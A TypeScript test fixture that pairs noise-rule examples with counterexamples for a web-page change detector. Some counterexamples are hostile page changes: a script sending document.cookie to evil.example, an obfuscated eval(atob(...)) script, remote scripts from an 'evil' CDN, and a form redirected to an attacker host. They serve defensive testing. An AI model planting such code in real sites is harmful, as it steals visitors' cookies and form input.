import type { Example } from "./run-example.ts";

const json = (before: unknown, after: unknown) =>
  ({ as: "json", before: JSON.stringify(before), after: JSON.stringify(after) }) as const;

/** For each rule a difference that it silences, and one much like it that it must not silence. */
export const examples: Record<string, { example: Example; counterExample: Example }> = {
  "time.ago": {
    example: { before: "<p>Posted 5 minutes ago</p>", after: "<p>Posted 2 hours ago</p>" },
    counterExample: {
      before: "<p>The great bell of the old town was cast 80 years ago in Utrecht by two brothers</p>",
      after: "<p>The great bell of the old town was cast 90 years ago in Utrecht by two brothers</p>",
    },
  },
  "counter.labeled": {
    example: { before: "<p>1,204 views</p>", after: "<p>1,377 views</p>" },
    counterExample: {
      before: "<p>The council received 40 comments about the plan to close the road</p>",
      after: "<p>The council received 70 comments about the plan to close the road</p>",
    },
  },
  "time.copyright": {
    example: { in: "footer", before: "<p>© 2025 Example Ltd</p>", after: "<p>© 2026 Example Ltd</p>" },
    counterExample: { before: "<p>© 2025 Example Ltd</p>", after: "<p>© 2026 Example Ltd</p>" },
  },
  "token.identifier": {
    example: { in: "footer", before: "<p>Build 9f3e2d1c0b77</p>", after: "<p>Build 1a0c77be42d9</p>" },
    counterExample: { in: "footer", before: "<p>Open on Sundays too</p>", after: "<p>Closed on Sundays</p>" },
  },
  "counter.quote": {
    example: { in: "header", before: "<p>DAX 18,204 +0.4 %</p>", after: "<p>DAX 18,331 −0.2 %</p>" },
    counterExample: { in: "header", before: "<p>Shipping 4.90 €</p>", after: "<p>Shipping 5.90 €</p>" },
  },
  "time.outside": {
    example: { in: "header", before: "<p>Tuesday, 3 March 2026</p>", after: "<p>Tuesday, 4 March 2026</p>" },
    counterExample: {
      before: "<p>Applications close on 3 March 2026</p>",
      after: "<p>Applications close on 4 March 2026</p>",
    },
  },
  "counter.outside": {
    example: { in: "nav", before: "<p>Offers (12)</p>", after: "<p>Offers (15)</p>" },
    counterExample: { in: "nav", before: "<p>Offers from 12 €</p>", after: "<p>Offers from 15 €</p>" },
  },
  "time.clock": {
    example: { before: "<p>10:41 UTC</p>", after: "<p>11:02 UTC</p>" },
    counterExample: {
      before: "<p>10:41</p><p>11:30</p><p>12:10</p>",
      after: "<p>10:41</p><p>11:45</p><p>12:10</p>",
    },
  },
  "markup.recut": {
    example: {
      before: "<p>First part of the words. Second part of the words.</p>",
      after: "<p>First part of the words.</p><p>Second part of the words.</p>",
    },
    counterExample: {
      before: "<p>First part of the words. Second part of the words.</p>",
      after: "<p>First part of the words.</p><p>Third part of the words.</p>",
    },
  },
  "order.moved": {
    example: {
      before: "<p>The first paragraph of the page</p><p>The second paragraph of the page</p>",
      after: "<p>The second paragraph of the page</p><p>The first paragraph of the page</p>",
    },
    counterExample: {
      before: "<p>Seat A</p><p>Free</p><p>Seat B</p><p>Taken</p>",
      after: "<p>Seat A</p><p>Taken</p><p>Seat B</p><p>Free</p>",
    },
  },
  "consent.run": {
    example: {
      in: "footer",
      before: "",
      after:
        "<p>We use cookies to improve this site.</p><button>Accept all</button><button>Reject all</button>",
    },
    counterExample: { before: "", after: "<p>We use cookies to improve this site.</p>" },
  },
  "consent.zone": {
    example: {
      before: "",
      after: '<div id="onetrust-banner"><p>We value your privacy</p><button>Accept</button></div>',
    },
    counterExample: {
      before: "",
      after: '<div class="words"><p>We value your privacy, so we left X</p></div>',
    },
  },
  "widget.zone": {
    example: { before: "", after: '<div class="chat-widget"><p>Chat with us</p></div>' },
    counterExample: { before: "", after: '<div class="answers"><p>Chat with us on Monday</p></div>' },
  },
  "widget.dialog": {
    example: {
      before: "",
      after:
        '<div role="dialog"><p>Spring offers are here, take a look around</p><button>Close</button></div>',
    },
    counterExample: {
      before: "",
      after: "<div><p>Spring offers are here, take a look around</p></div>",
    },
  },
  "advertisement.zone": {
    example: {
      before: '<div class="ad-slot"><a href="/a">Oak lamps from Norden</a></div>',
      after: '<div class="ad-slot"><a href="/b">Travel kettles by Brix</a></div>',
    },
    counterExample: {
      before: '<div class="offers"><a href="/a">Oak lamps from Norden</a></div>',
      after: '<div class="offers"><a href="/b">Travel kettles by Brix</a></div>',
    },
  },
  "rotation.zone": {
    example: {
      before: '<div class="carousel"><p>Ten new recipes</p></div>',
      after: '<div class="carousel"><p>Meet the team</p></div>',
    },
    counterExample: {
      before: '<div class="recipes"><p>Ten new recipes</p></div>',
      after: '<div class="recipes"><p>Meet the team</p></div>',
    },
  },
  "markup.replacement": {
    example: { before: "<p>The caf\ufffd opens</p>", after: "<p>The café opens</p>" },
    counterExample: { before: "<p>The caf\ufffd opens at 9</p>", after: "<p>The café opens at 8</p>" },
  },
  "time.reworded": {
    example: { before: "<p>8 minutes ago</p>", after: "<p>29.01.2026</p>" },
    counterExample: { before: "<p>28.01.2026</p>", after: "<p>29.01.2026</p>" },
  },
  "time.sent": {
    example: {
      before: "<p>Prices as of 3 March 2026</p>",
      after: "<p>Prices as of 5 March 2026</p>",
      sent: ["2026-03-03T09:00:00Z", "2026-03-05T09:00:00Z"],
    },
    counterExample: {
      before: "<p>Prices as of 3 March 2026</p>",
      after: "<p>Prices as of 5 March 2026</p>",
      sent: ["2026-03-03T09:00:00Z", "2026-04-05T09:00:00Z"],
    },
  },
  "token.machine-text": {
    example: { before: "<p>8 + 12 =</p>", after: "<p>3 + 9 =</p>" },
    counterExample: { before: "<p>8 + 12 places left</p>", after: "<p>3 + 9 places left</p>" },
  },
  "hidden.part": {
    example: { before: "", after: '<div style="display:none"><p>Template of a card</p></div>' },
    counterExample: { before: "", after: "<div><p>Template of a card</p></div>" },
  },
  "visitor.label": {
    example: {
      in: "header",
      before: "<p>Log in</p><p>See the advantages</p>",
      after: "<p>My account</p><p>38 points</p>",
    },
    counterExample: {
      in: "header",
      before: "<p>Log in</p>",
      after: "<p>We were hacked: change your password today.</p>",
    },
  },
  "said.difference": {
    example: { before: "<p>Bay 1</p>", after: "<p>Bay 2</p>", afterFeedback: "difference" },
    counterExample: {
      before: "<p>Bay 1</p>",
      after: "<p>Write to a@b.example</p>",
      afterFeedback: "difference",
    },
  },
  "rule.location": {
    example: { before: "<p>Bay 1</p>", after: "<p>Bay 2</p>", afterFeedback: "location" },
    counterExample: {
      before: "<p>Bay 1</p>",
      after: "<p>Hacked by the crew</p>",
      afterFeedback: "location",
    },
  },
  "learned.value": {
    example: { before: "<p>Lucky number 31</p>", after: "<p>Lucky number 47</p>", afterConfirmation: true },
    counterExample: {
      before: "<p>Lucky number 31</p>",
      after: "<p>Pay to a@b.example</p>",
      afterConfirmation: true,
    },
  },
  "learned.piece": {
    example: { before: "", after: "<p>You are reader of the week</p>", afterConfirmation: true },
    counterExample: { before: "", after: "<p>You are reader of the week</p>" },
  },
  "learned.picture": {
    example: { as: "picture", before: "", after: "" },
    counterExample: { as: "picture", before: "", after: "" },
  },
  "transport.header": {
    example: { as: "header", before: "x-cache: HIT", after: "x-cache: MISS" },
    counterExample: { as: "header", before: "content-security-policy: default-src 'self'", after: "" },
  },
  "visitor.cookie": {
    example: { as: "cookie", before: "", after: "basket; Secure" },
    counterExample: { as: "cookie", before: "basket; Secure", after: "basket" },
  },
  "token.address": {
    example: {
      as: "address",
      before: "https://site.example/?sid=9f3e2d1c0b77",
      after: "https://site.example/?sid=1a0c77be42d9",
    },
    counterExample: { as: "address", before: "https://site.example/a", after: "https://site.example/b" },
  },
  "tracking.vendor": {
    example: { before: "", after: '<script src="https://static.hotjar.com/c/hotjar.js"></script>' },
    counterExample: { before: "", after: '<script src="https://cdn.evil.example/x.js"></script>' },
  },
  "alternating.source": {
    example: {
      before: "",
      after: '<script src="https://cdn.partner.example/x.js"></script>',
      afterConfirmation: true,
    },
    counterExample: { before: "", after: '<script src="https://cdn.evil.example/x.js"></script>' },
  },
  "build.script": {
    example: { before: "", after: "<script>document.body.classList.add('ready')</script>" },
    counterExample: { before: "", after: '<script>eval(atob("YWxlcnQoMSk="))</script>' },
  },
  "rotation.picture": {
    example: { as: "picture", before: "/one.png", after: "/two.png" },
    counterExample: { as: "picture", before: "/one.png", after: "/new.png" },
  },
  "style.layout": {
    example: { as: "picture", before: "", after: "" },
    counterExample: { as: "picture", before: "", after: "" },
  },
  "time.value": {
    example: json({ generatedAt: "2026-03-03T09:00:00Z" }, { generatedAt: "2026-03-03T10:00:00Z" }),
    counterExample: json({ deadline: "2026-03-03T09:00:00Z" }, { deadline: "2026-03-03T10:00:00Z" }),
  },
  "counter.value": {
    example: json({ downloads: 120 }, { downloads: 131 }),
    counterExample: json({ downloads: 120 }, { downloads: 0 }),
  },
  "asset-version.value": {
    example: json({ logo: "https://a.example/l.png?v=1" }, { logo: "https://a.example/l.png?v=2" }),
    counterExample: json({ logo: "https://a.example/l.png" }, { logo: "https://a.example/m.png" }),
  },
  "order.values": {
    example: json({ tags: ["a", "b", "c"] }, { tags: ["c", "a", "b"] }),
    counterExample: json({ tags: ["a", "b", "c"] }, { tags: ["a", "b", "d"] }),
  },
  "time.feed": {
    example: {
      as: "xml",
      before:
        "<rss><channel><lastBuildDate>Mon, 2 Mar 2026</lastBuildDate><item><title>A</title></item></channel></rss>",
      after:
        "<rss><channel><lastBuildDate>Tue, 3 Mar 2026</lastBuildDate><item><title>A</title></item></channel></rss>",
    },
    counterExample: {
      as: "xml",
      before: "<rss><channel><item><title>A</title><pubDate>Mon, 2 Mar 2026</pubDate></item></channel></rss>",
      after: "<rss><channel><item><title>A</title><pubDate>Tue, 3 Mar 2026</pubDate></item></channel></rss>",
    },
  },
  "hidden.xml-comment": {
    example: { as: "xml", before: "<a><!-- one --><b>1</b></a>", after: "<a><!-- two --><b>1</b></a>" },
    counterExample: { as: "xml", before: "<a><b>1</b></a>", after: "<a><b>2</b></a>" },
  },
  "time.file-stamp": {
    example: {
      as: "text",
      before: "# Generated 2026-03-03 09:00:00\nalpha\n",
      after: "# Generated 2026-03-04 09:00:00\nalpha\n",
    },
    counterExample: { as: "text", before: "Expires 2026-03-03\n", after: "Expires 2026-03-04\n" },
  },
  "markup.file-layout": {
    example: { as: "json", before: '{"a":1}', after: '{\n  "a": 1\n}' },
    counterExample: { as: "json", before: '{"a":1}', after: '{"a":"1"}' },
  },
  "order.markup": {
    example: { before: '<i class="x"></i><b class="y"></b>', after: '<b class="y"></b><i class="x"></i>' },
    counterExample: { before: "<p>One</p>", after: "<p>Two</p>" },
  },
  "token.markup": {
    example: { before: '<i data-id="9f3e2d1c0b77"></i>', after: '<i data-id="1a0c77be42d9"></i>' },
    counterExample: {
      before: '<p><a href="/terms">Terms</a></p>',
      after: '<p><a href="/rules">Terms</a></p>',
    },
  },
  "style.markup": {
    example: { before: '<i class="a"></i>', after: '<i class="b"></i>' },
    counterExample: { before: "<p>Sold out</p>", after: '<p style="display:none">Sold out</p>' },
  },
  "build.markup": {
    example: { before: "<script>var a = [1]</script>", after: "<script>var b = [2, 3]</script>" },
    counterExample: {
      before: "<script>var a = [1]</script>",
      after: '<script>fetch("https://evil.example/?" + document.cookie)</script>',
    },
  },
  "markup.other": {
    example: { before: '<i data-state="a"></i>', after: '<i data-state="b"></i>' },
    counterExample: {
      before: '<form action="/a"><input name="q"></form>',
      after: '<form action="https://evil.example/"><input name="q"></form>',
    },
  },
};
